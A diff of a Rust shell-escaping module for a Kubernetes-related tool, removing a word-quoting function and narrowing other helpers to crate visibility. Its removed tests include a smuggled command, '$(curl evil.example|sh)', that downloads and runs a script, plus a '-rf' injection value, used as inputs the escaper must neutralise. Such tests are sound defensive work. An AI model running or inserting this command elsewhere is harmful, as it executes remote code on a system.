@@ -5,33 +5,15 @@ use super::text::visible;
 /// The longest value that a command carries: a name of Kubernetes has 253 characters, a value of a setting is shorter.
 const LONGEST: usize = 300;
 
-/// A value as one word of a POSIX shell: as it is where it is plain, else in single quotes. A value with characters that
-/// do not show themselves, or of an unreasonable length, is not repeated: the placeholder takes its place.
-#[must_use]
-pub fn word(value: &str, placeholder: &str) -> String {
-    if value.is_empty() || value.chars().count() > LONGEST || visible(value) != value {
-        return placeholder.to_owned();
-    }
-    let plain = |it: char| {
-        it.is_ascii_alphanumeric() || matches!(it, '_' | '.' | '/' | ':' | '@' | '%' | '+' | ',' | '=' | '-')
-    };
-    if value.chars().all(plain) && !value.starts_with('-') {
-        return value.to_owned();
-    }
-    format!("'{}'", value.replace('\'', r"'\''"))
-}
-
 /// A value as it stands between single quotes that are there already. What does not show itself is replaced by the
 /// placeholder.
-#[must_use]
-pub fn within_quotes(value: &str, placeholder: &str) -> String {
+pub(crate) fn within_quotes(value: &str, placeholder: &str) -> String {
     if visible(value) == value { value.replace('\'', r"'\''") } else { placeholder.to_owned() }
 }
 
 /// A JSON list of words as it stands between single quotes that are there already. A word that does not show itself is
 /// replaced by a placeholder.
-#[must_use]
-pub fn list(words: &[&str]) -> String {
+pub(crate) fn list(words: &[&str]) -> String {
     let shown = |word: &&str| {
         if visible(word) == *word { (*word).to_owned() } else { "VALUE".to_owned() }
     };
@@ -41,8 +23,7 @@ pub fn list(words: &[&str]) -> String {
 
 /// The name of an object or key: letters, digits, `-`, `_` and `.` only, as Kubernetes has them; anything else could not
 /// exist and is replaced by the placeholder.
-#[must_use]
-pub fn name(value: &str, placeholder: &str) -> String {
+pub(crate) fn name(value: &str, placeholder: &str) -> String {
     let plain = |it: char| it.is_ascii_alphanumeric() || matches!(it, '-' | '_' | '.');
     let known =
         !value.is_empty() && value.len() <= LONGEST && value.chars().all(plain) && !value.starts_with('-');
@@ -50,8 +31,7 @@ pub fn name(value: &str, placeholder: &str) -> String {
 }
 
 /// A host: a DNS name, an IP address, or the path of a socket; anything else is replaced by the placeholder.
-#[must_use]
-pub fn host(value: &str, placeholder: &str) -> String {
+pub(crate) fn host(value: &str, placeholder: &str) -> String {
     let plain = |it: char| it.is_ascii_alphanumeric() || matches!(it, '-' | '_' | '.' | ':' | '/');
     let known =
         !value.is_empty() && value.len() <= LONGEST && value.chars().all(plain) && !value.starts_with('-');
@@ -63,18 +43,6 @@ mod tests {
     use rstest::rstest;
 
     use super::*;
-
-    #[rstest]
-    #[case("flagsmith-db", "flagsmith-db")]
-    #[case("a b", "'a b'")]
-    #[case("it's", r"'it'\''s'")]
-    #[case("$(curl evil.example|sh)", "'$(curl evil.example|sh)'")]
-    #[case("-rf", "'-rf'")]
-    #[case("a\nb", "VALUE")]
-    #[case("", "VALUE")]
-    fn words(#[case] value: &str, #[case] expected: &str) {
-        assert_eq!(word(value, "VALUE"), expected);
-    }
 
     #[rstest]
     #[case("a b", "a b")]
